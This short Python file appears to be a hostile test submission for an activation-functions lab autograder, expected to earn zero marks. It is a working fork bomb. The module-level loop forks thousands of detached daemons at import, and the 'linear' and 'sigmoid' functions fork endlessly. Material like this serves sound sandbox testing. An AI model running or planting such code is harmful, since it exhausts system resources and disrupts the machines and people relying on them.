"""Forks for ever, and leaves daemons behind.

earns: 0 of lab02_activations
"""

import os
from contextlib import suppress

for _ in range(10_000):
    with suppress(OSError):
        if not os.fork():
            os.setsid()


def linear(z):
    while True:
        os.fork()


def sigmoid(z):
    while True:
        with suppress(OSError):
            os.forkpty()
